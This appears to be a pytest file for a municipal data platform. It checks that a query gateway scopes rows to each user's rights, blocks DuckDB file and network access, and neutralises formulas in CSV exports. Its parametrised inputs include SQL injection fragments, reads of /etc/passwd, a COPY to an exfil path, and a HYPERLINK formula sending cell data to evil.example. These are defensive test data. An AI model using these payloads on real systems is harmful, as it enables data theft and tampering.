"""The data gateway against crafted calls (issue #10): own entries, select allow-list, no external
access from DuckDB, models derived from every convention, CSV injection, exports under the conventions."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import duckdb
import polars as pl
import pytest

from tests.app.helpers import catalog_home
from tranquillite.app_core import carte, habilitations, queries, store
from tranquillite.app_core.rights import load_principal

MARCH = carte.MapFilters(start=date(2025, 3, 7), end=date(2025, 3, 8))


@pytest.fixture
def cat(app_home):
    c = queries.Catalog.open()
    yield c
    c.close()


def test_agent_cortege_reads_only_its_own_entries_through_the_gateway(cat, con):
    agent = load_principal(con, "demo.cortege")
    everything = queries.scoped_query(
        cat,
        load_principal(con, "demo.analyste").scope,
        "clean.events",
        select="record_id",
        where="convention = ?",
        params=["prefecture_police_13"],
    )
    assert everything.height == 8  # the Préfecture's rows exist
    # nothing entered by this agent yet: the gateway returns nothing, whatever the page asks
    assert queries.scoped_query(cat, agent.scope, "clean.events", select="*").height == 0
    assert queries.scoped_query(cat, agent.scope, "clean.events", select="count(*) AS n", level="aggregate").item() == 0
    # the agent entered one of them (registry of the app): that one only
    mine = everything.get_column("record_id").sort()[0]
    with store.transaction(con):
        con.execute(
            "INSERT INTO cortege_entries VALUES (?, 1, 'manifestation_statique', 'demo.cortege', ?, "
            "'cortege/2025-03-08/x.json', 'x')",
            (mine, store.iso(store.now_utc())),
        )
    agent = load_principal(con, "demo.cortege")
    got = queries.scoped_query(cat, agent.scope, "clean.events", select="record_id, source")
    assert got.get_column("record_id").to_list() == [mine]
    # another agent of the Préfecture does not see it
    other = load_principal(con, "demo.prefecture")
    assert mine in queries.scoped_query(cat, other.scope, "clean.events", select="record_id")["record_id"].to_list()
    # tables without a record id give nothing to an own-entries scope
    for table in ("indicators.tension", "models.forecast", "governance.data_quality"):
        try:
            assert queries.scoped_query(cat, agent.scope, table, select="*").height == 0
        except queries.NotAvailable:
            pass


@pytest.mark.parametrize(
    "select",
    [
        "(SELECT count(*) FROM raw.cortege)",
        "record_id, (SELECT 1)",
        "read_csv('/etc/passwd')",
        "* FROM raw.cortege --",
        "count(*) AS n FROM raw.cortege UNION SELECT 1",
        "source; DROP TABLE x",
        "getenv('HOME')",
        "current_setting('enable_external_access')",
        "list_contains((SELECT list(record_id) FROM raw.cortege), 'x')",
        "raw.cortege.record_id",
        "pas_une_colonne",
        "query('SELECT 1')",
    ],
)
def test_the_select_list_accepts_only_columns_and_allowed_aggregates(cat, con, select):
    analyst = load_principal(con, "demo.analyste")
    with pytest.raises(queries.Forbidden):
        queries.scoped_query(cat, analyst.scope, "clean.events", select=select)


@pytest.mark.parametrize(
    "kw",
    [
        {"where": "record_id IN (SELECT record_id FROM raw.cortege)"},
        {"where": "1 = 1) OR (1 = 1"},
        {"where": "EXISTS (SELECT 1 FROM raw.cortege)"},
        {"order_by": "(SELECT 1)"},
        {"group_by": "source, (SELECT 1)"},
        {"where": "source IN (SELECT column0 FROM read_csv('/etc/passwd'))"},
    ],
)
def test_the_other_fragments_refuse_subqueries_and_table_functions(cat, con, kw):
    analyst = load_principal(con, "demo.analyste")
    with pytest.raises(queries.Forbidden):
        queries.scoped_query(cat, analyst.scope, "clean.events", select="source", **kw)


def test_the_pages_fragments_are_still_accepted(cat, con):
    analyst = load_principal(con, "demo.analyste")
    df = queries.scoped_query(
        cat,
        analyst.scope,
        "clean.events",
        select="source, count(*) AS n, count(*) FILTER (WHERE lon > 0) AS n_geo, "
        "min(start) AS a, strftime(date_trunc('month', start), '%Y-%m') AS mois",
        where="list_contains(?::VARCHAR[], source) AND start >= ?",
        params=[["interventions"], date(2025, 3, 1)],
        group_by="source, mois",
        order_by="n DESC, source",
    )
    assert df.row(0, named=True)["source"] == "interventions" and df.row(0, named=True)["n"] == 20


def test_the_app_duckdb_connection_has_no_external_access(cat):
    for sql in (
        "SELECT * FROM read_csv('/etc/passwd')",
        "SELECT * FROM glob('/etc/*')",
        "COPY (SELECT 1) TO '/tmp/tq_exfil.csv'",
        "ATTACH '/tmp/tq_other.duckdb'",
        "SELECT * FROM read_parquet('" + str(cat.path.resolve().parent / "raw" / "cortege" / "*.parquet") + "')",
        "SELECT count(*) FROM raw.cortege",
    ):
        with pytest.raises(duckdb.Error):
            cat.cursor().execute(sql).fetchall()
    with pytest.raises(duckdb.Error):  # and it cannot be switched back on
        cat.cursor().execute("SET enable_external_access = true")
    # the published tables are still read
    assert cat.cursor().execute("SELECT count(*) FROM clean.events").fetchone()[0] == 34


def _forecast(explanations: str) -> pl.DataFrame:
    from datetime import datetime

    origin = datetime(2025, 3, 1, 6)
    return pl.DataFrame(
        {
            "origin": [origin] * 2,
            "slot": [1, 1],
            "slot_start": [origin] * 2,
            "slot_end": [datetime(2025, 3, 1, 14)] * 2,
            "category": ["all", "all"],
            "h3_cell": ["89396815307ffff", "8939681530fffff"],
            "zone": ["13201", "13206"],
            "expected": [2.5, 0.4],
            "rank": [1, 2],
            "explanations": [explanations] * 2,
            "model": ["lgbm_avec_evenements"] * 2,
        }
    )


def test_models_without_conventions_are_derived_from_every_convention(app_home, con, monkeypatch):
    explanations = json.dumps([{"feature": "ev_manifestation_deambulatoire", "share": 0.4}])
    catalog_home(app_home, "home_forecast", {("models", "forecast"): _forecast(explanations)}, monkeypatch)
    with store.connect() as c:  # the case: encadrement_pm set to the City's convention only
        habilitations.set_profile_rights(
            c,
            load_principal(c, "demo.admin"),
            "encadrement_pm",
            pages=["accueil_public", "carte", "previsions", "compte"],
            actions=["exporter"],
            conventions=["internal"],
        )
        internal_only = load_principal(c, "demo.encadrement")
        analyst = load_principal(c, "demo.analyste")
        reader = load_principal(c, "demo.prefecture")
    cat = queries.Catalog.open()
    try:
        assert queries.scoped_query(cat, analyst.scope, "models.forecast", select="*").height == 2
        assert queries.scoped_query(cat, internal_only.scope, "models.forecast", select="*").height == 0
        assert queries.scoped_query(cat, reader.scope, "models.forecast", select="*").height == 0
    finally:
        cat.close()
    # once the pipeline names the conventions of each row (lineage), the list rule applies
    with_lineage = _forecast("[]").with_columns(
        pl.Series("conventions", [["internal"], ["internal", "prefecture_police_13"]])
    )
    catalog_home(app_home, "home_forecast2", {("models", "forecast"): with_lineage}, monkeypatch)
    cat = queries.Catalog.open()
    try:
        got = queries.scoped_query(cat, internal_only.scope, "models.forecast", select="h3_cell")
        assert got.get_column("h3_cell").to_list() == ["89396815307ffff"]
        assert queries.scoped_query(cat, analyst.scope, "models.forecast", select="*").height == 2
    finally:
        cat.close()


def test_csv_exports_neutralise_formulas(app_home, con, monkeypatch):
    events = pl.read_parquet(str(app_home / "warehouse" / "clean" / "events" / "*.parquet"))
    hostile = (
        events.filter(pl.col("source") == "interventions")
        .head(6)
        .with_columns(
            pl.Series(
                "subcategory",
                ['=HYPERLINK("http://evil.example/?"&A1,"clic")', "+1+2", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"],
            )
        )
    )
    catalog_home(app_home, "home_csv", {("clean", "events"): hostile}, monkeypatch)
    cat = queries.Catalog.open()
    try:
        data = carte.export_csv(cat, load_principal(con, "demo.analyste"), MARCH).decode("utf-8-sig")
    finally:
        cat.close()
    rows = list(csv.DictReader(io.StringIO(data), delimiter=";"))
    assert len(rows) == 6
    for r in rows:
        assert r["subcategory"][0] == "'", r["subcategory"]  # never a leading = + - @ tab CR
    assert rows[0]["subcategory"].startswith("'=HYPERLINK")
    assert all(float(r["lon"]) > 0 for r in rows)  # numbers stay numbers


def test_exports_follow_the_conventions_and_are_logged(cat, con):
    manager = load_principal(con, "demo.encadrement")
    # Préfecture rows in the view: the convention forbids use outside the platform → refused, with the reason
    with pytest.raises(queries.Forbidden, match="Préfecture"):
        carte.export_csv(cat, manager, MARCH)
    refused = store.access_log(con, login="demo.encadrement", exports_only=False)[0]
    assert refused["action"] == "export_refuse" and "prefecture_police_13" in refused["detail"]
    # the City's own data only: allowed, logged with its conventions and row count
    internal = carte.with_filters(
        MARCH, sources=("interventions", "signalements", "alertes_videoprotection", "evenements_publics")
    )
    data = carte.export_csv(cat, manager, internal).decode("utf-8-sig")
    n = len(data.strip().splitlines()) - 1
    line = store.access_log(con, exports_only=True)[0]
    detail = json.loads(line["detail"])
    assert line["action"] == "export_csv" and detail["lignes"] == n and detail["conventions"] == {"internal": n}
    # the page says why before offering the button
    assert "Préfecture" in carte.export_refusal({"manifestation_statique": 2})
    assert carte.export_refusal({"interventions": 20}) is None
